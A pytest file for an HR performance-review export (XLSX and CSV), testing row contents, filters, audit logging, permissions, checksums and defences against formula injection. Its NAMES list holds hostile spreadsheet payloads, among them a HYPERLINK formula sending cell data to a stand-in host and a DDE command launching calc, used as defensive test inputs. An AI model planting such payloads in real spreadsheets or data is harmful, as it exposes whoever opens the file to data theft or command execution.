"""What HR takes out: read back as a spreadsheet reads it."""

import csv
import html
import io
import re
import zipfile
from datetime import datetime
from typing import Any

import openpyxl
import pytest

from kpis.models import KpiVersion
from reviews.actions import save_texts
from reviews.exports import Export, Selection, make_export
from reviews.models import Cycle
from reviews.workbooks import FORMULA_STARTS, as_csv, as_workbook, safe_text
from reviews.workflow import Step
from teams.models import AuditEvent, Person, Team
from tests.builders import instant
from tests.conftest import Cast
from tests.reviews.builders import (
    OPENED,
    opened_cycle,
    quarter_of_ratings,
    review_of,
    signed_by_both,
    signed_by_leader,
)

# What people are called, or could be made to be called, to hurt whoever opens the file.
NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    '<b>Bold</b> & "Co"',
    "مها \u202eلأحمد",
    "http://example.test/a",
    "00123",
    "＝1+1",
]


@pytest.fixture
def cycle(cast: Cast) -> Cycle:
    quarter_of_ratings(cast)
    return opened_cycle(cast.root)


def export(cast: Cast, cycle: Cycle, selection: Selection | None = None, form: str = "xlsx") -> Export:
    return make_export(cycle, selection or Selection(), by=cast.user("hugo"), form=form, at=instant(OPENED))


def workbook(made: Export) -> Any:
    return openpyxl.load_workbook(io.BytesIO(as_workbook(made)))


def table(made: Export) -> list[dict[str, Any]]:
    rows = list(workbook(made)["Reviews"].iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def test_each_person_is_a_row_with_score_values_and_signatures(cast: Cast, cycle: Cycle) -> None:
    signed_by_both(review_of(cycle, cast.ann))
    signed_by_leader(review_of(cycle, cast.bob))
    ann, bob, cleo = table(export(cast, cycle))
    assert (ann["Person"], ann["Team"], ann["Written by"], ann["Step"]) == (
        "Ann Test", "Alpha", "Lena Test", "Signed by both",
    )  # fmt: skip
    # 17 of 20; half way from target 80 to stretch 90.
    assert (ann["Score"], ann["CSAT (%)"], ann["CSAT: n"], ann["CSAT: target"], ann["CSAT: attainment"]) == (
        110, 85, 20, 80, 110,
    )  # fmt: skip
    # 6 of 10 is below the minimum of 70.
    assert (bob["Score"], bob["CSAT (%)"], bob["CSAT: attainment"]) == (0, 60, 0)
    assert (bob["Signed by the leader"], bob["Signed by the person"]) == ("Lena Test", None)
    assert isinstance(ann["Person signed at (UTC)"], datetime)
    address = f"/reviews/{review_of(cycle, cast.ann).public_id}/"
    assert ann["Where each figure is explained"] == address
    assert (ann["Days in the period"], ann["Unchanged since signed"]) == (90, "yes")
    assert cleo["Step"] == "To write"


def test_every_figure_of_a_row_leads_to_its_explanation(cast: Cast, cycle: Cycle) -> None:
    hugo = cast.client("hugo")
    for row in table(export(cast, cycle)):
        page = hugo.get(row["Where each figure is explained"]).content.decode()
        (address,) = {html.unescape(found) for found in re.findall(r'href="(/explain/csat/[^"]*)"', page)}
        explanation = hugo.get(address)
        assert explanation.status_code == 200
        assert row["Person"] in explanation.content.decode()
        assert (explanation.context["value"].value, explanation.context["value"].n) == (row["CSAT (%)"], row["CSAT: n"])


def test_no_data_is_an_empty_cell_and_never_zero(cast: Cast, cycle: Cycle) -> None:
    cleo = table(export(cast, cycle))[2]
    # 5 ratings are shown but too few to count; nothing records quality or handle time.
    assert (cleo["CSAT (%)"], cleo["CSAT: n"]) == (80, 5)
    for column in ("Score", "CSAT: attainment", "Quality score (%)", "AHT (seconds)", "Performance: attainment"):
        assert cleo[column] is None
    lines = list(csv.DictReader(io.StringIO(as_csv(export(cast, cycle)).decode())))
    assert (lines[2]["CSAT (%)"], lines[2]["Score"], lines[2]["AHT (seconds)"]) == ("80.0", "", "")


def test_the_cover_says_scope_filters_who_when_and_counts(cast: Cast, cycle: Cycle) -> None:
    made = export(cast, cycle, Selection(team=cast.north))
    rows = list(workbook(made)["Cover"].iter_rows(values_only=True))
    cover = {row[0]: row[1] for row in rows}
    assert cover["Organisation"] == "Organisation"
    assert (cover["Cycle"], cover["Period"], cover["Scope"]) == (
        "First quarter", "2026-01-01 – 2026-03-31", "Acme Service",
    )  # fmt: skip
    assert (cover["Filters"], cover["Exported by"]) == ("North; every step", "Hugo Test (hugo)")
    assert (str(cover["Exported at (UTC)"]), str(cover["Due on"])) == ("2026-04-02 10:00:00", "2026-04-30 00:00:00")
    assert (cover["Reviews"], cover["of them: To write"], cover["of them: Closed"]) == (2, 2, 0)
    assert cover["Checksum of the rows (SHA-256)"] == made.checksum


def test_a_sheet_says_what_each_figure_is_made_of(cast: Cast, cycle: Cycle) -> None:
    rows = list(workbook(export(cast, cycle))["Definitions"].iter_rows(values_only=True))
    csat = dict(zip(rows[0], next(row for row in rows if row[0] == "csat"), strict=True))
    assert csat.pop("definition") == KpiVersion.objects.get(kpi__key="csat").description
    assert tuple(csat.values()) == (
        "csat", "CSAT", 1, "ratio", "surveys.satisfied", "surveys.ratings", 100, "percent", 10, 30,
    )  # fmt: skip


@pytest.mark.parametrize(
    ("team", "step", "expected"),
    [
        ("", "", ["Ann Test", "Bob Test", "Cleo Test"]),
        ("south", "", ["Cleo Test"]),
        ("", Step.LEADER_SIGNED, ["Ann Test"]),
        ("south", Step.LEADER_SIGNED, []),
    ],
)
def test_filters_choose_the_rows(cast: Cast, cycle: Cycle, team: str, step: str, expected: list[str]) -> None:
    signed_by_leader(review_of(cycle, cast.ann))
    chosen: Team | None = getattr(cast, team) if team else None
    assert [row[0] for row in export(cast, cycle, Selection(chosen, step)).rows] == expected


def test_every_export_is_logged_with_who_what_and_how_many(cast: Cast, cycle: Cycle) -> None:
    made = export(cast, cycle, Selection(team=cast.south), form="csv")
    event = AuditEvent.objects.get(action="reviews.export")
    assert (event.by, event.subject) == (cast.user("hugo"), "First quarter")
    assert event.details == {
        "cycle": str(cycle.public_id), "form": "csv", "rows": 1, "checksum": made.checksum,
        "filters": "South; every step",
    }  # fmt: skip


@pytest.mark.parametrize("name", ["ann", "lena", "mara", "ada"])
def test_without_the_permission_nothing_comes_out(cast: Cast, cycle: Cycle, name: str) -> None:
    assert make_export(cycle, Selection(), by=cast.user(name), form="xlsx").rows == []


def test_the_checksum_is_that_of_the_rows(cast: Cast, cycle: Cycle) -> None:
    first, second = export(cast, cycle), export(cast, cycle)
    assert first.checksum == second.checksum
    save_texts(review := review_of(cycle, cast.ann), texts={"goals": "x"}, version=review.version, by=None)
    assert export(cast, cycle).checksum == first.checksum
    signed_by_leader(review)
    assert export(cast, cycle).checksum != first.checksum


@pytest.mark.parametrize("name", NAMES)
def test_no_text_becomes_a_formula_or_a_link(cast: Cast, cycle: Cycle, name: str) -> None:
    Person.objects.filter(pk=cast.ann.pk).update(name=name, external_id=name)
    made = export(cast, cycle)
    with zipfile.ZipFile(io.BytesIO(as_workbook(made))) as archive:
        parts = {part: archive.read(part).decode() for part in archive.namelist() if part.endswith(".xml")}
    sheets = [text for part, text in parts.items() if part.startswith("xl/worksheets/")]
    assert len(sheets) == 3
    assert not any(re.search(r"<f[ >]|<hyperlink", sheet) for sheet in sheets)
    cells = [cell for sheet in workbook(made).worksheets for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "n", "d", "inlineStr"}
    assert name in [cell.value for cell in cells]


@pytest.mark.parametrize("name", NAMES)
def test_csv_cells_cannot_start_a_formula(cast: Cast, cycle: Cycle, name: str) -> None:
    Person.objects.filter(pk=cast.ann.pk).update(name=name)
    lines = list(csv.reader(io.StringIO(as_csv(export(cast, cycle)).decode(), newline="")))
    assert not [cell for line in lines for cell in line if cell.startswith(FORMULA_STARTS)]
    assert any(cell in (name, f"'{name}") for line in lines for cell in line)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_a_dangerous_beginning_is_quoted(start: str) -> None:
    assert safe_text(f"{start}1") == f"'{start}1"
    assert safe_text(f"a{start}1") == f"a{start}1"


def test_a_negative_figure_stays_a_number(cast: Cast, cycle: Cycle) -> None:
    made = export(cast, cycle)
    made.rows[0][8] = -3.5
    assert list(csv.reader(io.StringIO(as_csv(made).decode())))[1][8] == "-3.5"
    assert workbook(made)["Reviews"].cell(2, 9).value == -3.5


def test_excel_reads_the_csv_as_utf_8_with_a_mark(cast: Cast, cycle: Cycle) -> None:
    made = export(cast, cycle)
    assert as_csv(made, bom=True) == b"\xef\xbb\xbf" + as_csv(made)
    assert as_csv(made).startswith(b"Person,Key,")


def test_a_changed_review_is_marked_as_changed(cast: Cast, cycle: Cycle) -> None:
    review = signed_by_leader(review_of(cycle, cast.ann))
    review.texts.get(section="goals").delete()
    assert [row["Unchanged since signed"] for row in table(export(cast, cycle))] == ["no", "yes", "yes"]


def test_an_export_costs_few_queries(cast: Cast, cycle: Cycle, django_assert_max_num_queries) -> None:  # type: ignore[no-untyped-def]
    hugo = cast.user("hugo")
    with django_assert_max_num_queries(8):
        make_export(cycle, Selection(), by=hugo, form="csv")
